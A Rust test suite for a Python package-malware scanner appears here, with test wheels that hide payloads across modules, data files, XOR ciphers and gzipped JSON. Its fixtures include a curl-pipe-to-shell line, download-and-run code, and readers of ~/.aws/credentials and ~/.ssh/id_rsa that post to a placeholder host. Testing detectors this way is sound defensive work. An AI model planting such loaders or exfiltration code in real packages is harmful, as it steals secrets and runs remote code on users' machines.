//! Attacks whose parts lie in modules and data files of their own: what decodes, what is decoded, and
//! what runs it. Each has to give its payload as a layer of the report.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::io::{Cursor, Write};

use flate2::Compression;
use flate2::write::GzEncoder;
use fondaco_archive::Limits;
use fondaco_inspect::{Context, inspect, on_large_stack};
use fondaco_testkit::{Dist, Wheel};
use fondaco_verdict::{Report, Verdict};

/// Harmless: nobody answers at the address.
const PAYLOAD: &str = "import os\nos.system('curl -s http://x.example.invalid/a | sh')\n";
/// The same in base64.
const ENCODED: &str = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJykK";

const DECODER: &str = "import base64\n\n\ndef restore(text):\n    return base64.b64decode(text).decode()\n";

type Files<'f> = &'f [(&'f str, &'f str)];

fn inspected(files: Files<'_>) -> Report {
    let steps: String = (0..25)
        .map(|n| format!("def step_{n}(values):\n    return [v for v in values if v > {n}]\n\n\n"))
        .collect();
    let mut wheel = Wheel::new("series", "1.4.2").file("series/steps.py", steps);
    for (path, text) in files {
        wheel = wheel.file(path, text.replace("ENCODED", ENCODED));
    }
    inspected_dist(wheel.build())
}

fn inspected_dist(dist: Dist) -> Report {
    let context = Context { file_name: dist.file_name, ..Context::default() };
    let bytes = dist.bytes.to_vec();
    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
}

#[track_caller]
fn assert_unfolded(files: Files<'_>) {
    let report = inspected(files);
    let has_layer = report.layers.iter().any(|layer| layer.size == PAYLOAD.len() as u64);
    assert!(has_layer, "{files:#?} {:#?}", report.layers);
    assert_eq!(report.verdict, Verdict::Malicious, "{files:#?} {:.2} {:#?}", report.score, report.findings);
}

#[test]
fn a_decoder_in_another_module_is_followed() {
    let kept = ("series/kept.py", "DATA = 'ENCODED'\n");
    for init in [
        "from .tool import restore\nfrom .kept import DATA\nexec(restore(DATA))\n",
        "from .tool import *\nfrom .kept import *\nexec(restore(DATA))\n",
        "from . import kept, tool\nexec(tool.restore(kept.DATA))\n",
        "import series.kept\nimport series.tool as t\nexec(t.restore(series.kept.DATA))\n",
        "import importlib\ntool = importlib.import_module('.tool', __package__)\n\
         kept = __import__('series.kept', fromlist=['DATA'])\nexec(tool.restore(kept.DATA))\n",
        "import sys\nfrom . import kept, tool\nexec(sys.modules[__name__ + '.tool'].restore(kept.DATA))\n",
        "def begin():\n    from . import kept, tool\n    exec(tool.restore(kept.DATA))\n\n\nbegin()\n",
    ] {
        assert_unfolded(&[("series/__init__.py", init), ("series/tool.py", DECODER), kept]);
    }
}

#[test]
fn a_method_and_an_own_cipher_in_another_module_are_followed() {
    let method = "import base64\n\n\nclass Tool:\n    def __init__(self, key):\n        self.key = key\n\n    \
                  def restore(self, text):\n        return base64.b64decode(text)\n";
    let init = "from .tool import Tool\nexec(Tool(7).restore('ENCODED'))\n";
    assert_unfolded(&[("series/__init__.py", init), ("series/tool.py", method)]);
    let numbers: Vec<String> = PAYLOAD.bytes().map(|byte| (byte ^ 23).to_string()).collect();
    let kept = format!("KEY = 23\nDATA = [{}]\n", numbers.join(", "));
    let cipher = "def restore(data, key):\n    return bytes(value ^ key for value in data).decode()\n";
    let init = "from . import kept, tool\nexec(tool.restore(kept.DATA, kept.KEY))\n";
    assert_unfolded(&[("series/__init__.py", init), ("series/tool.py", cipher), ("series/kept.py", &kept)]);
}

#[test]
fn what_runs_it_may_lie_elsewhere_too() {
    let run = "import base64\n\n\ndef begin(text):\n    exec(base64.b64decode(text))\n";
    let init = "from .run import begin\nbegin('ENCODED')\n";
    assert_unfolded(&[("series/__init__.py", init), ("series/run.py", run)]);
    // One module calls the next.
    let first = "from .kept import DATA\nfrom .tool import restore\n\n\ndef begin():\n    from .run import go\n    go(restore(DATA))\n";
    assert_unfolded(&[
        ("series/__init__.py", "from .first import begin\nbegin()\n"),
        ("series/first.py", first),
        ("series/tool.py", DECODER),
        ("series/kept.py", "DATA = 'ENCODED'\n"),
        ("series/run.py", "def go(text):\n    exec(text)\n"),
    ]);
}

#[test]
fn what_was_fetched_is_followed_to_where_it_is_started() {
    let report = inspected(&[
        (
            "series/__init__.py",
            "from .get import get\nfrom .run import run\nrun(get('http://x.example.invalid/a'))\n",
        ),
        (
            "series/get.py",
            "import os, tempfile, urllib.request\n\n\ndef get(address):\n    path = os.path.join(tempfile.gettempdir(), 'a.exe')\n    urllib.request.urlretrieve(address, path)\n    return path\n",
        ),
        ("series/run.py", "import subprocess\n\n\ndef run(path):\n    subprocess.Popen([path])\n"),
    ]);
    let found: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
    assert!(report.verdict == Verdict::Malicious && found.contains(&"downloaded-command"), "{found:?}");
}

#[test]
fn data_files_that_are_decoded_and_run_are_read() {
    for init in [
        "import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data(__name__, 'units.dat')))\n",
        "import base64\nfrom importlib import resources\n\
         exec(base64.b64decode(resources.files(__package__).joinpath('units.dat').read_text()))\n",
        "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'units.dat')) as file:\n    \
         exec(base64.b64decode(file.read()))\n",
        "import base64\nfrom pathlib import Path\n\
         exec(base64.b64decode(Path(__file__).with_name('units.dat').read_bytes()))\n",
        "from .tool import restore, text_of\nexec(restore(text_of('units.dat')))\n",
    ] {
        let tool = format!(
            "{DECODER}\n\ndef text_of(name):\n    import os\n    with open(os.path.join(os.path.dirname(__file__), name)) as file:\n        return file.read()\n"
        );
        assert_unfolded(&[
            ("series/__init__.py", init),
            ("series/tool.py", &tool),
            ("series/units.dat", ENCODED),
        ]);
    }
}

#[test]
fn what_one_module_gathers_and_another_sends_is_followed() {
    let kept = ("series/kept.py", "import queue\n\nFOUND = []\nQUEUE = queue.Queue()\n");
    let init = ("series/__init__.py", "from . import read, send\nread.begin()\nsend.begin()\n");
    for (read, send) in [
        (
            "import os\nfrom . import kept\n\n\ndef begin():\n    kept.FOUND.append(open(os.path.expanduser('~/.aws/credentials')).read())\n",
            "import requests\nfrom . import kept\n\n\ndef begin():\n    requests.post('http://x.example.invalid/c', json=kept.FOUND)\n",
        ),
        (
            "import os\nfrom .kept import QUEUE\n\n\ndef begin():\n    QUEUE.put(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
            "import urllib.request\nfrom .kept import QUEUE\n\n\ndef begin():\n    urllib.request.urlopen('http://x.example.invalid/c', data=QUEUE.get().encode())\n",
        ),
    ] {
        let report = inspected(&[init, kept, ("series/read.py", read), ("series/send.py", send)]);
        let found: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
        assert!(report.verdict >= Verdict::Suspicious && found.contains(&"secret-exfiltration"), "{found:?}");
    }
    // Rows that are gathered and sent are no secret.
    let read = "from . import kept\n\n\ndef begin():\n    kept.FOUND.append(open('rows.csv').read())\n";
    let send = "import requests\nfrom . import kept\n\n\ndef begin():\n    requests.post('https://rows.example.org/c', json=kept.FOUND)\n";
    let init = ("series/__init__.py", "from .read import begin as read\nfrom .send import begin as send\n");
    let report = inspected(&[init, kept, ("series/read.py", read), ("series/send.py", send)]);
    assert_eq!(report.verdict, Verdict::Clean, "{:#?}", report.findings);
}

/// Modules that decode for others, and data that is decoded, are ordinary.
#[test]
fn honest_packages_that_decode_are_clean() {
    let icon =
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    for files in [
        [
            (
                "series/__init__.py",
                "from .tool import restore\nfrom .kept import ICON\n\n\ndef icon():\n    return restore(ICON)\n",
            ),
            ("series/kept.py", "ICON = 'ICON64'\n"),
        ],
        [
            (
                "series/__init__.py",
                "import pkgutil\nfrom .tool import restore\n\n\ndef icon():\n    return restore(pkgutil.get_data(__name__, 'icon.dat'))\n",
            ),
            ("series/icon.dat", "ICON64"),
        ],
    ] {
        let texts = files.map(|(path, text)| (path, text.replace("ICON64", icon)));
        let mut all: Vec<(&str, &str)> = texts.iter().map(|(path, text)| (*path, text.as_str())).collect();
        all.push(("series/tool.py", DECODER));
        let report = inspected(&all);
        assert_eq!((report.verdict, report.score), (Verdict::Clean, 0.0), "{:#?}", report.findings);
    }
}

/// Commands for other shells within a hidden program make it no script of theirs.
#[test]
fn a_program_that_speaks_to_other_shells_is_python() {
    // `os.system('taskkill ...')`, `os.system('echo $env:TEMP')`, and `exec` of what an address gives.
    let encoded = "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdApvcy5zeXN0ZW0oJ3Rhc2traWxsIC9mIC9pbSBhZ2VudC5leGUnKQpv\
         cy5zeXN0ZW0oJ2VjaG8gJGVudjpURU1QJykKZXhlYyh1cmxsaWIucmVxdWVzdC51cmxvcGVuKCdodHRwOi8veC5l\
         eGFtcGxlLmludmFsaWQvYicpLnJlYWQoKSkK";
    let init = format!("import base64\nexec(base64.b64decode('{encoded}'))\n");
    let report = inspected(&[("series/__init__.py", &init)]);
    assert!(report.layers.iter().any(|layer| layer.language == "python"), "{:#?}", report.layers);
    let is_of_layer = |rule: &str| report.findings.iter().any(|f| f.rule.as_str() == rule && f.layer == 1);
    assert!(is_of_layer("network-exec"), "{:#?}", report.findings);
}

/// What is too much to be held is not passed over.
#[test]
fn data_that_is_too_large_to_be_decoded_is_reported() {
    let init = "import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data(__name__, 'units.dat')))\n";
    let units = format!("{}\n", "QUJD".repeat(15)).repeat(4_000);
    let report = inspected(&[("series/__init__.py", init), ("series/units.dat", &units)]);
    assert!(report.verdict >= Verdict::Suspicious && !report.complete, "{:#?}", report.findings);
    assert!(report.unscanned.iter().any(|u| u.member == "series/units.dat"), "{:#?}", report.unscanned);
    // Nobody makes anything of it here.
    let report = inspected(&[("series/__init__.py", "VERSION = '1'\n"), ("series/units.dat", &units)]);
    assert!(report.complete, "{:#?}", report.unscanned);
}

/// A word of Python within it doesn't hide what a data file holds.
#[test]
fn encoded_data_that_speaks_of_imports_is_read() {
    let init = "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'units.dat')) as file:\n    \
                exec(base64.b64decode(file.read()[16:]))\n";
    let units = "import of units|ENCODED";
    assert_unfolded(&[("series/__init__.py", init), ("series/units.dat", units)]);
}

#[test]
fn a_value_of_a_compressed_dictionary_is_executed() {
    let gzip = |text: &str| {
        let mut packed = GzEncoder::new(Vec::new(), Compression::default());
        packed.write_all(text.as_bytes()).unwrap();
        packed.finish().unwrap()
    };
    let reader = "import base64\nimport gzip\nimport json\nimport os\n\nHERE = os.path.dirname(__file__)\n\n\n\
                  def words(language):\n    path = os.path.join(HERE, 'words', f'{language}.json.gz')\n    \
                  with gzip.open(path, 'rt', encoding='utf-8') as file:\n        return json.load(file)\n\n\n\
                  def check(language, name):\n    return base64.b64decode(words(language)[name]).decode('utf-8')\n";
    let checker = "from .words import check, words\n\n\nclass Checker:\n    def __init__(self, language='en'):\n        \
                   self.words = words(language)\n        \
                   self.check = compile(check('eu', 'speller'), '<words>', 'exec')\n        eval(self.check)\n";
    let wheel = Wheel::new("series", "1.4.2")
        .file("series/__init__.py", checker)
        .file("series/words.py", reader)
        .file("series/words/en.json.gz", gzip("{\"one\": 1000, \"two\": 999}"))
        .file("series/words/eu.json.gz", gzip(&format!("{{\"bat\": 1000, \"speller\": \"{ENCODED}\"}}")));
    let report = inspected_dist(wheel.build());
    assert!(report.layers.iter().any(|layer| layer.size == PAYLOAD.len() as u64), "{report:#?}");
    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
}
